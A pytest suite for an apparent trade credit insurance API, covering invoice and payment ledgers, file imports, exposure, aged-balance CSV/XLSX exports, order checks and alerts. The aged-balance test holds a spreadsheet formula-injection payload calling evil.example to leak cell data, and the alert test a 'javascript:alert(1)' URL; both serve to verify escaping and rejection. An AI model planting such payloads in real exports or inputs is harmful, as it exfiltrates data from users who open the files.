"""Receivables over HTTP: the invoice ledger, file imports, exposure, aged balance, order checks and alerts.

Through the real application (``TestClient``) on each backend. The world is api_world's: insured A
with its policy and ``buyer_a`` (an approved limit of 50,000 EUR), insured B likewise; the clock
stands at 2026-03-15.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from api_world import World, login
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy import text

from tradecover.api.app import create_app
from tradecover.bootstrap import Container, build
from tradecover.config import Environment, Settings
from tradecover.domain.identifiers import generate_siren
from tradecover.domain.periods import FixedClock

API = "/api/v1"
PROBLEM = "application/problem+json"
SIREN_A = "552100554"  # world.buyer_a
EINVOICES = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "external" / "einvoice"
UBL_CTC_FR = EINVOICES / "akretion_ubl-21-extended-ctc-fr.xml"
needs_einvoices = pytest.mark.skipif(not UBL_CTC_FR.exists(), reason=f"e-invoice samples not found in {EINVOICES}")
CSV_HEADER = "record_type,siren,number,issue_date,due_date,amount_excl_vat,vat_amount\n"
_sirens = itertools.count(1)

Headers = dict[str, dict[str, str]]


# ---------------------------------------------------------------------- helpers


def assert_problem(response: Response, status: int, code: str, field: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM), response.headers
    body: dict[str, Any] = response.json()
    assert (body["status"], body["code"]) == (status, code), body
    assert body["detail"]
    if field is not None:
        assert body.get("field") == field, body
    return body


def count(container: Container, table: str) -> int:
    with container.engine.connect() as connection:
        return int(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())


def eur(amount: str) -> dict[str, str]:
    return {"amount": amount, "currency": "EUR"}


def invoice(buyer_id: str, number: str, net: str = "1000.00", vat: str = "200.00", **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "buyer_id": buyer_id,
        "number": number,
        "issue_date": "2026-03-01",
        "due_date": "2026-04-30",
        "amount_excl_vat": eur(net),
        "vat_amount": eur(vat),
    }
    body.update(changes)
    return body


def policy_url(policy_id: str, suffix: str) -> str:
    return f"{API}/policies/{policy_id}{suffix}"


def record(client: TestClient, who: dict[str, str], policy_id: str, body: dict[str, Any]) -> Response:
    response: Response = client.post(policy_url(policy_id, "/invoices"), json=body, headers=who)
    return response


def upload(
    client: TestClient, who: dict[str, str], policy_id: str, name: str, content: str | bytes, **form: str
) -> Response:
    data = content.encode() if isinstance(content, str) else content
    response: Response = client.post(
        policy_url(policy_id, "/ledger/imports"), headers=who, data=form, files={"file": (name, data, "text/csv")}
    )
    return response


def new_buyer(client: TestClient, who: dict[str, str], legal_name: str) -> str:
    siren = generate_siren(70_000_000 + next(_sirens))
    created = client.post(
        f"{API}/buyers",
        json={"identifiers": [{"kind": "siren", "value": siren}], "legal_name": legal_name, "country": "FR"},
        headers=who,
    )
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


def invoice_numbers(client: TestClient, who: dict[str, str], policy_id: str) -> list[str]:
    listed = client.get(policy_url(policy_id, "/invoices"), headers=who)
    assert listed.status_code == 200, listed.text
    return sorted(item["number"] for item in listed.json()["items"])


# ---------------------------------------------------------------------- invoices and payments


def test_an_invoice_is_recorded_once(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    first = record(app_client, insured, world.policy_a, invoice(world.buyer_a, "F-2026-001"))
    assert first.status_code == 201, first.text
    recorded = first.json()
    assert (recorded["kind"], recorded["number"], recorded["source"]) == ("invoice", "F-2026-001", "api")
    assert recorded["amount_incl_vat"] == eur("1200.00")
    assert recorded["delivery_date"] == "2026-03-01"  # the issue date when not given

    again = record(app_client, insured, world.policy_a, invoice(world.buyer_a, "F-2026-001"))
    assert again.status_code == 200, again.text
    assert again.json() == recorded

    conflicting = record(app_client, insured, world.policy_a, invoice(world.buyer_a, "F-2026-001", net="1100.00"))
    body = assert_problem(conflicting, 409, "ledger.conflicting_resend", "number")
    assert body["context"]["recorded_id"] == recorded["id"]
    # the broker acting for A re-sends the same invoice: still the one recorded
    by_broker = record(app_client, headers["broker_user"], world.policy_a, invoice(world.buyer_a, "F-2026-001"))
    assert (by_broker.status_code, by_broker.json()["id"]) == (200, recorded["id"])
    assert invoice_numbers(app_client, insured, world.policy_a) == ["F-2026-001"]


def test_bad_invoices_are_refused_and_nothing_is_recorded(
    app_client: TestClient, world: World, headers: Headers, container: Container
) -> None:
    insured = headers["insured_user"]
    delegation = {"factor_id": world.factor_id, "start_date": "2026-01-01", "reason": "affacturage"}
    delegated = app_client.post(
        f"/api/v1/policies/{world.policy_a}/delegations", json=delegation, headers=headers["admin"]
    )
    assert delegated.status_code == 201, delegated.text
    audit_before = count(container, "audit_events")
    a, b = world.policy_a, world.policy_b
    cases: list[tuple[str, dict[str, Any], int, str, str | None]] = [
        (a, invoice(world.buyer_a, "X-1", net="-10.00"), 422, "ledger.negative_amount", "amount_excl_vat"),
        (a, invoice(world.buyer_a, "X-2", due_date="2026-02-28"), 422, "ledger.invalid_due_date", "due_date"),
        (a, invoice(world.buyer_a, "X-3", due_date=None), 422, "ledger.missing_due_date", "due_date"),
        (a, invoice("no-such-buyer", "X-4"), 404, "buyer.not_found", "buyer_id"),
        (a, invoice(world.buyer_b, "X-5"), 404, "buyer.not_found", "buyer_id"),  # B's buyer: as if it did not exist
        (b, invoice(world.buyer_a, "X-6"), 404, "policy.not_found", None),  # B's policy: as if it did not exist
        (a, invoice(world.buyer_a, "X-7", net="10.005"), 422, "ledger.invalid_amount", "amount_excl_vat"),
        (a, invoice(world.buyer_a, "X-8", vat="0.001"), 422, "ledger.invalid_amount", "vat_amount"),
        (
            a,
            invoice(world.buyer_a, "X-9", vat_amount={"amount": "2.00", "currency": "USD"}),
            422,
            "ledger.currency_mismatch",
            "vat_amount",
        ),
        (
            a,
            invoice(world.buyer_a, "AV-1", kind="credit_note", invoice="F-404", due_date=None),
            422,
            "ledger.unknown_invoice",
            "invoice",
        ),
        (a, invoice(world.buyer_a, "X-10", net="1,000.00"), 422, "request.invalid", "amount_excl_vat.amount"),
        (a, invoice(world.buyer_a, "X-11", surprise=True), 422, "request.invalid", "surprise"),
        # the invoice is valid but its factor is not: the invoice is not kept either
        (a, invoice(world.buyer_a, "X-12", factor="   "), 422, "ledger.bad_factor", "factor"),
    ]
    for policy_id, body, status, code, field in cases:
        assert_problem(record(app_client, insured, policy_id, body), status, code, field)
    missing = record(app_client, insured, "no-such-policy", invoice(world.buyer_a, "X-13"))
    other = record(app_client, insured, b, invoice(world.buyer_a, "X-13"))
    assert (missing.status_code, missing.json()["code"]) == (other.status_code, other.json()["code"])

    assert count(container, "ledger_invoices") == 0
    assert count(container, "factor_assignments") == 0
    assert count(container, "audit_events") == audit_before
    # nothing was kept half-way: the same invoices, corrected, are new
    assert record(app_client, insured, a, invoice(world.buyer_a, "X-12", factor="Factor SA")).status_code == 201
    assert record(app_client, insured, a, invoice(world.buyer_a, "X-7", net="10.01")).status_code == 201
    # three decimals are right for a currency that has three
    kwd = invoice(
        world.buyer_a,
        "KW-1",
        amount_excl_vat={"amount": "10.005", "currency": "KWD"},
        vat_amount={"amount": "0.000", "currency": "KWD"},
    )
    assert record(app_client, insured, a, kwd).status_code == 201
    assert count(container, "ledger_invoices") == 3
    assert count(container, "factor_assignments") == 1


def test_payments_are_idempotent_by_reference(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    url = policy_url(world.policy_a, "/payments")
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "F-1")).status_code == 201
    payment = {"buyer_id": world.buyer_a, "amount": eur("700.00"), "received_on": "2026-03-10", "reference": "VIR-1"}
    first = app_client.post(url, json=payment, headers=insured)
    assert first.status_code == 201, first.text
    again = app_client.post(url, json=payment, headers=insured)
    assert (again.status_code, again.json()["id"]) == (200, first.json()["id"])
    other_amount = app_client.post(url, json=payment | {"amount": eur("750.00")}, headers=insured)
    assert_problem(other_amount, 409, "ledger.conflicting_resend", "reference")
    assert_problem(
        app_client.post(url, json=payment | {"reference": "VIR-2", "amount": eur("0.00")}, headers=insured),
        422,
        "ledger.invalid_amount",
        "amount",
    )
    assert_problem(
        app_client.post(policy_url(world.policy_b, "/payments"), json=payment, headers=insured),
        404,
        "policy.not_found",
    )
    assert_problem(
        app_client.post(url, json=payment | {"buyer_id": world.buyer_b}, headers=insured),
        404,
        "buyer.not_found",
        "buyer_id",
    )
    listed = app_client.get(url, headers=insured).json()
    assert (listed["total"], listed["items"][0]["reference"]) == (1, "VIR-1")
    # the payment settled 700 of the 1,200 including VAT: 500 remains, 416.67 excluding VAT
    exposure = app_client.get(policy_url(world.policy_a, "/exposure"), headers=insured).json()
    assert exposure["outstanding"] == eur("416.67")

    # payment experience: F-1 was due 2026-04-30; PE-1, due 2026-02-04, is paid 10 days late
    body = invoice(world.buyer_a, "PE-1", issue_date="2026-01-05", due_date="2026-02-04")
    assert record(app_client, insured, world.policy_a, body).status_code == 201
    paid = {"buyer_id": world.buyer_a, "amount": eur("1200.00"), "received_on": "2026-02-14", "invoices": ["PE-1"]}
    assert app_client.post(url, json=paid, headers=insured).status_code == 201
    experience = app_client.get(
        policy_url(world.policy_a, f"/buyers/{world.buyer_a}/payment-experience"), headers=insured
    )
    assert experience.status_code == 200, experience.text
    own = experience.json()["own"]
    assert (own["invoices_paid"], own["invoices_paid_late"], own["trading_since"]) == (1, 1, "2026-01-05")
    assert experience.json()["market"]["insureds_reporting"] >= 1
    other = app_client.get(policy_url(world.policy_a, f"/buyers/{world.buyer_b}/payment-experience"), headers=insured)
    assert_problem(other, 404, "buyer.not_found")  # A's policy with B's buyer


def test_reversals_factor_assignments_and_disputes(app_client: TestClient, world: World, headers: Headers) -> None:
    insured, admin = headers["insured_user"], headers["admin"]
    mine = record(app_client, insured, world.policy_a, invoice(world.buyer_a, "R-1")).json()
    theirs = record(app_client, admin, world.policy_b, invoice(world.buyer_b, "R-1")).json()
    reversal = {"reason": "sent twice"}
    # B's entry through A's policy: not found, even for the insurer's staff
    for who in (insured, admin):
        assert_problem(
            app_client.post(
                policy_url(world.policy_a, f"/ledger-entries/{theirs['id']}/reversal"), json=reversal, headers=who
            ),
            404,
            "ledger_entry.not_found",
        )
    url = policy_url(world.policy_a, f"/ledger-entries/{mine['id']}/reversal")
    assert app_client.post(url, json=reversal, headers=insured).status_code == 204
    assert_problem(app_client.post(url, json=reversal, headers=insured), 409, "ledger.already_reversed")
    [listed] = app_client.get(policy_url(world.policy_a, "/invoices"), headers=insured).json()["items"]
    assert (listed["id"], listed["reversed"]) == (mine["id"], True)
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "R-2")).status_code == 201
    delegation = {"factor_id": world.factor_id, "start_date": "2026-01-01", "reason": "affacturage"}
    assert (
        app_client.post(policy_url(world.policy_a, "/delegations"), json=delegation, headers=admin).status_code == 201
    )
    assign = {"buyer_id": world.buyer_a, "invoice": "R-2", "factor": "Factor SA", "date": "2026-03-05"}
    assigned = app_client.post(policy_url(world.policy_a, "/factor-assignments"), json=assign, headers=insured)
    assert assigned.status_code == 204, assigned.text
    again = app_client.post(policy_url(world.policy_a, "/factor-assignments"), json=assign, headers=insured)
    assert_problem(again, 409, "ledger.already_assigned", "invoice")
    unknown = app_client.post(
        policy_url(world.policy_a, "/factor-assignments"), json=assign | {"invoice": "R-404"}, headers=insured
    )
    assert_problem(unknown, 404, "invoice.not_found", "invoice")

    # disputes: opened once, resolved not before they were opened
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "D-1")).status_code == 201
    dispute = {"buyer_id": world.buyer_a, "invoice": "D-1", "date": "2026-03-05", "reason": "short delivery"}
    opened = app_client.post(policy_url(world.policy_a, "/disputes"), json=dispute, headers=insured)
    assert opened.status_code == 201, opened.text
    assert_problem(
        app_client.post(policy_url(world.policy_a, "/disputes"), json=dispute, headers=insured),
        409,
        "dispute.already_open",
        "invoice",
    )
    early = app_client.post(
        policy_url(world.policy_a, "/disputes/resolutions"), json=dispute | {"date": "2026-03-01"}, headers=insured
    )
    assert_problem(early, 422, "dispute.bad_date", "date")
    # B's buyer named in the body: not found, and the field says which
    foreign = {"buyer_id": world.buyer_b, "invoice": "D-1", "date": "2026-03-05"}
    for suffix, body in (
        ("/disputes", foreign),
        ("/disputes/resolutions", foreign),
        ("/factor-assignments", foreign | {"factor": "Factor SA"}),
    ):
        answer = app_client.post(policy_url(world.policy_a, suffix), json=body, headers=insured)
        assert_problem(answer, 404, "buyer.not_found", "buyer_id")
    resolved = app_client.post(
        policy_url(world.policy_a, "/disputes/resolutions"), json=dispute | {"date": "2026-03-12"}, headers=insured
    )
    assert (resolved.status_code, resolved.json()["resolved_on"]) == (200, "2026-03-12")
    [listed] = app_client.get(policy_url(world.policy_a, "/disputes"), headers=insured).json()
    assert (listed["id"], listed["opened_on"], listed["resolved_on"]) == (
        opened.json()["id"],
        "2026-03-05",
        "2026-03-12",
    )


# ---------------------------------------------------------------------- file imports


def test_the_downloadable_template_imports(
    app_client: TestClient, world: World, headers: Headers, container: Container
) -> None:
    template = app_client.get(f"{API}/ledger/template.csv")  # documentation: no credentials needed
    assert template.status_code == 200, template.text
    assert template.headers["content-type"].startswith("text/csv")
    assert "attachment" in template.headers["content-disposition"]
    report = upload(app_client, headers["insured_user"], world.policy_a, "template.csv", template.content)
    assert report.status_code == 200, report.text
    body = report.json()
    assert (body["format"], body["applied"], body["created"], body["refused"], body["dry_run"]) == (
        "csv",
        True,
        5,
        0,
        False,
    )
    assert [(line["line"], line["kind"], line["outcome"]) for line in body["lines"]] == [
        (2, "invoice", "created"),
        (3, "credit_note", "created"),
        (4, "dispute", "created"),
        (5, "resolve_dispute", "created"),
        (6, "payment", "created"),
    ]
    assert body["import_id"]
    assert invoice_numbers(app_client, headers["insured_user"], world.policy_a) == ["AV2024-0001", "F2024-0001"]
    assert count(container, "ledger_payments") == 1
    assert count(container, "ledger_imports") == 1


def test_importing_the_same_file_twice_changes_nothing(app_client: TestClient, world: World, headers: Headers) -> None:
    template = app_client.get(f"{API}/ledger/template.csv").content
    insured = headers["insured_user"]
    assert upload(app_client, insured, world.policy_a, "template.csv", template).json()["created"] == 5
    again = upload(app_client, insured, world.policy_a, "template.csv", template).json()
    assert len(app_client.get(policy_url(world.policy_a, "/disputes"), headers=insured).json()) == 1
    assert (again["created"], again["duplicates"]) == (0, 5)


BAD_FILE = (
    CSV_HEADER
    + f"invoice,{SIREN_A},Q-1,2026-03-01,2026-04-30,100.00,20.00\n"
    + f"invoice,{SIREN_A},Q-2,2026-03-01,2026-02-01,100.00,20.00\n"  # due before issue
    + f"invoice,{SIREN_A},Q-3,2026-03-02,2026-04-30,300.00,60.00\n"
)


def test_a_bad_line_refuses_the_whole_file(
    app_client: TestClient, world: World, headers: Headers, container: Container
) -> None:
    audit_before = count(container, "audit_events")
    refused = upload(app_client, headers["insured_user"], world.policy_a, "q1.csv", BAD_FILE)
    assert refused.status_code == 422, refused.text
    body = refused.json()
    assert (body["applied"], body["created"], body["refused"], body["import_id"]) == (False, 2, 1, None)
    [bad] = [line for line in body["lines"] if line["outcome"] == "refused"]
    assert (bad["file"], bad["line"], bad["field"], bad["code"]) == (
        "q1.csv",
        3,
        "due_date",
        "ledger_csv.due_before_issue",
    )
    assert "2026-02-01" in bad["message"]
    assert count(container, "ledger_invoices") == 0
    assert count(container, "ledger_imports") == 0
    assert count(container, "audit_events") == audit_before

    partial = upload(app_client, headers["insured_user"], world.policy_a, "q1.csv", BAD_FILE, partial="true")
    assert partial.status_code == 200, partial.text
    body = partial.json()
    assert (body["partial"], body["applied"], body["created"], body["refused"]) == (True, True, 2, 1)
    [bad] = [line for line in body["lines"] if line["outcome"] == "refused"]
    assert (bad["file"], bad["line"], bad["field"]) == ("q1.csv", 3, "due_date")
    assert invoice_numbers(app_client, headers["insured_user"], world.policy_a) == ["Q-1", "Q-3"]


def test_a_dry_run_reports_and_writes_nothing(
    app_client: TestClient, world: World, headers: Headers, container: Container
) -> None:
    newcomer = generate_siren(80_000_000 + next(_sirens))
    good = CSV_HEADER + f"invoice,{SIREN_A},P-1,2026-03-01,2026-04-30,100.00,20.00\n"
    good += f"invoice,{newcomer},P-2,2026-03-01,2026-04-30,100.00,20.00\n"
    buyers_before = count(container, "buyers")
    audit_before = count(container, "audit_events")
    for content, status, refused in ((good, 200, 0), (BAD_FILE, 200, 1)):
        report = upload(app_client, headers["broker_user"], world.policy_a, "preview.csv", content, dry_run="true")
        assert report.status_code == status, report.text
        body = report.json()
        assert (body["dry_run"], body["applied"], body["refused"], body["import_id"]) == (True, False, refused, None)
    assert (body["created"], body["buyers_created"]) == (2, 0)
    assert count(container, "ledger_invoices") == 0
    assert count(container, "buyers") == buyers_before
    assert count(container, "audit_events") == audit_before
    assert count(container, "ledger_imports") == 0


@needs_einvoices
def test_an_e_invoice_names_its_buyer_by_siren(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    content = UBL_CTC_FR.read_bytes()
    report = app_client.post(
        policy_url(world.policy_a, "/ledger/imports"),
        headers=insured,
        files={"file": (UBL_CTC_FR.name, content, "application/xml")},
    )
    assert report.status_code == 200, report.text
    body = report.json()
    assert (body["format"], body["applied"], body["created"], body["buyers_created"]) == ("ubl", True, 1, 1)
    [line] = body["lines"]
    assert (line["kind"], line["reference"], line["outcome"]) == ("invoice", "F124212", "created")
    [recorded] = app_client.get(policy_url(world.policy_a, "/invoices"), headers=insured).json()["items"]
    assert (recorded["number"], recorded["issue_date"], recorded["due_date"]) == ("F124212", "2026-06-17", "2026-07-16")
    assert (recorded["amount_excl_vat"], recorded["vat_amount"]) == (eur("273.00"), eur("35.03"))
    assert recorded["order_reference"] == "PO1242"
    # the buyer is the one named by its SIREN (scheme 0002), added to A's book and to A's only
    buyer = app_client.get(f"{API}/buyers/{recorded['buyer_id']}", headers=insured)
    assert buyer.status_code == 200, buyer.text
    assert buyer.json()["identifiers"]["siren"] == "787878784"
    assert buyer.json()["legal_name"] == "Ma jolie boutique SARL"
    assert_problem(
        app_client.get(f"{API}/buyers/{recorded['buyer_id']}", headers=headers["insured_user_b"]),
        404,
        "buyer.not_found",
    )
    again = app_client.post(
        policy_url(world.policy_a, "/ledger/imports"),
        headers=insured,
        files={"file": (UBL_CTC_FR.name, content, "application/xml")},
    ).json()
    assert (again["created"], again["duplicates"], again["buyers_created"]) == (0, 1, 0)


@pytest.fixture
def small_upload_client(database_url: str, clock: FixedClock, world: World) -> Iterator[TestClient]:
    settings = Settings(database_url=database_url, environment=Environment.TEST, max_upload_bytes=2048)
    small = build(settings, clock=clock)
    with TestClient(create_app(container=small), raise_server_exceptions=False) as client:
        yield client
    small.dispose()


def test_an_upload_over_the_limit_is_refused(
    small_upload_client: TestClient, world: World, container: Container
) -> None:
    insured = login(small_upload_client, world.emails["insured_user"])
    good = CSV_HEADER + f"invoice,{SIREN_A},S-1,2026-03-01,2026-04-30,100.00,20.00\n"
    assert upload(small_upload_client, insured, world.policy_a, "small.csv", good).status_code == 200
    lines = "".join(f"invoice,{SIREN_A},S-{n},2026-03-01,2026-04-30,100.00,20.00\n" for n in range(2, 60))
    assert len(CSV_HEADER + lines) > 2048
    too_large = upload(small_upload_client, insured, world.policy_a, "big.csv", CSV_HEADER + lines)
    assert_problem(too_large, 413, "request.too_large")
    assert count(container, "ledger_invoices") == 1


# ---------------------------------------------------------------------- exposure, aged balance


def test_exposure_per_buyer_with_reasons(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    for body in (
        invoice(world.buyer_a, "E-1", net="10000.00", vat="2000.00"),
        invoice(world.buyer_a, "E-2", net="5000.00", vat="1000.00", due_date="2026-08-30"),  # 182 days > 120
        invoice(world.buyer_a, "E-3", net="3000.00", vat="600.00"),
    ):
        assert record(app_client, insured, world.policy_a, body).status_code == 201
    dispute = {"buyer_id": world.buyer_a, "invoice": "E-3", "date": "2026-03-10"}
    assert app_client.post(policy_url(world.policy_a, "/disputes"), json=dispute, headers=insured).status_code == 201

    response = app_client.get(policy_url(world.policy_a, "/exposure"), params={"lines": "true"}, headers=insured)
    assert response.status_code == 200, response.text
    exposure = response.json()
    assert (exposure["on"], exposure["currency"]) == ("2026-03-15", "EUR")
    assert (exposure["outstanding"], exposure["covered"], exposure["uncovered"]) == (
        eur("18000.00"),
        eur("10000.00"),
        eur("8000.00"),
    )
    [buyer] = exposure["buyers"]
    assert (buyer["buyer_id"], buyer["buyer_name"]) == (world.buyer_a, "Buyer of A")
    assert buyer["limit_in_force"] == eur("50000.00")
    assert buyer["utilisation"] == "0.3600"  # a string, like every amount
    assert {line["number"]: (line["eligible"], line["reason"]) for line in buyer["lines"]} == {
        "E-1": (True, None),
        "E-2": (False, "terms_too_long"),
        "E-3": (False, "disputed"),
    }
    assert {line["number"]: line["open_excl_vat"] for line in buyer["lines"]}["E-2"] == eur("5000.00")

    summary = app_client.get(policy_url(world.policy_a, "/exposure"), headers=insured).json()
    assert summary["buyers"][0]["lines"] is None
    before = app_client.get(policy_url(world.policy_a, "/exposure"), params={"on": "2026-02-15"}, headers=insured)
    assert before.json()["outstanding"] == eur("0.00")
    resolved = app_client.post(
        policy_url(world.policy_a, "/disputes/resolutions"), json=dispute | {"date": "2026-03-14"}, headers=insured
    )
    assert resolved.status_code == 200, resolved.text
    after = app_client.get(policy_url(world.policy_a, "/exposure"), headers=insured).json()
    assert after["covered"] == eur("13000.00")
    # B's view of its own policy shows none of A's buyers or invoices
    theirs = app_client.get(
        policy_url(world.policy_b, "/exposure"), params={"lines": "true"}, headers=headers["insured_user_b"]
    )
    assert (theirs.status_code, theirs.json()["buyers"]) == (200, [])


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
INJECTED_NAMES = (EVIL, "+33 Négoce SARL", "-Export SAS", "@Home SAS")


def test_aged_balance_in_json_csv_and_xlsx_without_formulas(
    app_client: TestClient, world: World, headers: Headers
) -> None:
    insured = headers["insured_user"]
    evil, plus, minus, at = (new_buyer(app_client, insured, name) for name in INJECTED_NAMES)
    for buyer_id, number, issue, due, net in (
        (evil, "AG-1", "2026-03-01", "2026-04-30", "1000.00"),  # not due
        (evil, "AG-2", "2026-01-20", "2026-02-28", "500.00"),  # 15 days overdue
        (at, "AG-3", "2026-01-01", "2026-02-01", "200.00"),  # 42 days
        (plus, "AG-4", "2025-12-01", "2026-01-10", "1000.00"),  # 64 days
        (minus, "AG-5", "2025-11-01", "2025-12-01", "100.00"),  # 104 days
    ):
        body = invoice(buyer_id, number, net=net, vat=f"{float(net) / 5:.2f}", issue_date=issue, due_date=due)
        assert record(app_client, insured, world.policy_a, body).status_code == 201
    url = policy_url(world.policy_a, "/aged-balance")

    report = app_client.get(url, headers=insured)
    assert report.status_code == 200, report.text
    aged = report.json()
    assert aged["on"] == "2026-03-15"
    total = aged["total"]
    assert (total["not_due"], total["days_1_30"], total["days_31_60"], total["days_61_90"], total["over_90"]) == (
        eur("1200.00"),
        eur("600.00"),
        eur("240.00"),
        eur("1200.00"),
        eur("120.00"),
    )
    assert total["total"] == eur("3360.00")
    by_buyer = {b["buyer_id"]: b for b in aged["buyers"]}
    assert by_buyer[evil]["buyer_name"] == EVIL  # JSON carries the name as it is
    assert by_buyer[evil]["aged"]["total"] == eur("1800.00")

    exported = app_client.get(url, params={"format": "csv"}, headers=insured)
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"].endswith('.csv"')
    assert exported.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:4] == ["buyer_id", "buyer", "currency", "not_due"]
    named = {row[0]: row for row in rows[1:]}
    assert named[evil][1] == "'" + EVIL
    assert named[plus][1] == "'+33 Négoce SARL"
    assert named[minus][1] == "'-Export SAS"
    assert named[at][1] == "'@Home SAS"
    assert named[evil][3:5] == ["1200.00", "600.00"]
    assert rows[-1][1:3] == ["TOTAL", "EUR"]
    assert rows[-1][8] == "3360.00"

    workbook_response = app_client.get(url, params={"format": "xlsx"}, headers=insured)
    assert workbook_response.status_code == 200, workbook_response.text
    assert workbook_response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_response.content)).active
    assert sheet is not None
    assert sheet.title == "Balance âgée"
    assert [cell.value for cell in sheet[1]][:3] == ["buyer_id", "buyer", "currency"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for buyer_id, name in zip((evil, plus, minus, at), INJECTED_NAMES, strict=True):
        cell = cells[buyer_id][1]
        assert (cell.value, cell.data_type) == (name, "s"), (buyer_id, cell.value, cell.data_type)
    amount = cells[evil][3]
    assert (amount.value, amount.data_type) == (1200, "n")  # amounts stay numbers
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []

    assert_problem(
        app_client.get(
            policy_url(world.policy_a, "/aged-balance"), params={"format": "csv"}, headers=headers["insured_user_b"]
        ),
        404,
        "policy.not_found",
    )


# ---------------------------------------------------------------------- order checks


def test_order_checks(app_client: TestClient, world: World, headers: Headers) -> None:
    insured = headers["insured_user"]
    url = policy_url(world.policy_a, "/order-checks")
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "O-1", net="41000.00")).status_code == 201

    def check(amount: str, buyer_id: str = world.buyer_a, **extra: str) -> dict[str, Any]:
        response = app_client.post(url, json={"buyer_id": buyer_id, "amount": eur(amount), **extra}, headers=insured)
        assert response.status_code == 200, response.text
        result: dict[str, Any] = response.json()
        return result

    covered = check("5000.00")
    assert (covered["status"], covered["covered"], covered["headroom"], covered["reasons"]) == (
        "covered",
        eur("5000.00"),
        eur("9000.00"),
        ["within_limit"],
    )
    assert (covered["limit_in_force"], covered["unpaid"]) == (eur("50000.00"), eur("41000.00"))
    partly = check("20000.00")
    assert (partly["status"], partly["covered"], partly["headroom"], partly["reasons"]) == (
        "partially_covered",
        eur("9000.00"),
        eur("9000.00"),
        ["limit_exceeded"],
    )
    # with a reference the covered order is held: the next check counts it
    assert check("6000.00", reference="PO-77")["status"] == "covered"
    held = check("5000.00")
    assert (held["status"], held["covered"], held["open_orders"]) == (
        "partially_covered",
        eur("3000.00"),
        eur("6000.00"),
    )
    nothing = check("5000.00", buyer_id=new_buyer(app_client, insured, "Sans Limite SARL"))
    assert (nothing["status"], nothing["covered"], nothing["headroom"], nothing["reasons"]) == (
        "not_covered",
        eur("0.00"),
        eur("0.00"),
        ["no_limit"],
    )
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "O-2", net="4000.00")).status_code == 201
    full = check("100.00")
    assert (full["status"], full["headroom"], full["reasons"]) == ("not_covered", eur("0.00"), ["limit_exceeded"])

    usd = app_client.post(
        url, json={"buyer_id": world.buyer_a, "amount": {"amount": "10", "currency": "USD"}}, headers=insured
    )
    assert_problem(usd, 422, "order_check.currency_mismatch", "amount")
    assert_problem(
        app_client.post(url, json={"buyer_id": world.buyer_b, "amount": eur("10.00")}, headers=insured),
        404,
        "buyer.not_found",
        "buyer_id",
    )


# ---------------------------------------------------------------------- alerts


def test_a_near_limit_alert_is_raised_listed_delivered_and_closed(
    app_client: TestClient, world: World, headers: Headers
) -> None:
    insured = headers["insured_user"]
    subscriptions = policy_url(world.policy_a, "/alert-subscriptions")
    webhook = app_client.post(
        subscriptions,
        json={
            "channel": "webhook",
            "target": "https://erp.insured-a.example/hooks/tradecover",
            "kinds": ["near_limit"],
        },
        headers=insured,
    )
    assert webhook.status_code == 201, webhook.text
    secret = webhook.json()["secret"]
    assert secret
    assert len(secret) >= 16
    email = app_client.post(
        subscriptions, json={"channel": "email", "target": "credit@insured-a.example"}, headers=insured
    )
    assert (email.status_code, email.json()["secret"]) == (201, None)
    listed = app_client.get(subscriptions, headers=insured).json()
    assert {s["id"] for s in listed} == {webhook.json()["id"], email.json()["id"]}
    assert all(s["secret"] is None for s in listed)  # shown once, at creation
    assert secret not in app_client.get(subscriptions, headers=insured).text
    for body, code in (
        ({"channel": "email", "target": "not-an-address"}, "alerts.bad_email"),
        ({"channel": "email", "target": "a@b@example.fr"}, "alerts.bad_email"),
        ({"channel": "webhook", "target": "ftp://erp.example/hook"}, "alerts.bad_url"),
        ({"channel": "webhook", "target": "javascript:alert(1)"}, "alerts.bad_url"),
        ({"channel": "email", "target": "x@example.fr", "kinds": ["everything"]}, "alerts.unknown_kind"),
    ):
        assert_problem(app_client.post(subscriptions, json=body, headers=insured), 422, code)
    assert_problem(
        app_client.post(subscriptions, json={"channel": "sms", "target": "+33600000000"}, headers=insured),
        422,
        "request.invalid",
        "channel",
    )
    assert_problem(
        app_client.post(
            subscriptions, json={"channel": "email", "target": "credit@insured-a.example"}, headers=insured
        ),
        409,
        "alerts.already_subscribed",
    )

    new_alerts = {"policy_id": world.policy_a, "state": "new"}
    assert app_client.get(f"{API}/alerts", params=new_alerts, headers=insured).json()["items"] == []
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "N-1", net="30000.00")).status_code == 201
    assert app_client.get(f"{API}/alerts", params=new_alerts, headers=insured).json()["items"] == []  # 60 %
    assert record(app_client, insured, world.policy_a, invoice(world.buyer_a, "N-2", net="11000.00")).status_code == 201
    [alert] = app_client.get(f"{API}/alerts", params=new_alerts, headers=insured).json()["items"]  # 82 %
    assert (alert["kind"], alert["buyer_id"], alert["policy_id"], alert["state"]) == (
        "near_limit",
        world.buyer_a,
        world.policy_a,
        "new",
    )
    assert "82 %" in alert["message"]

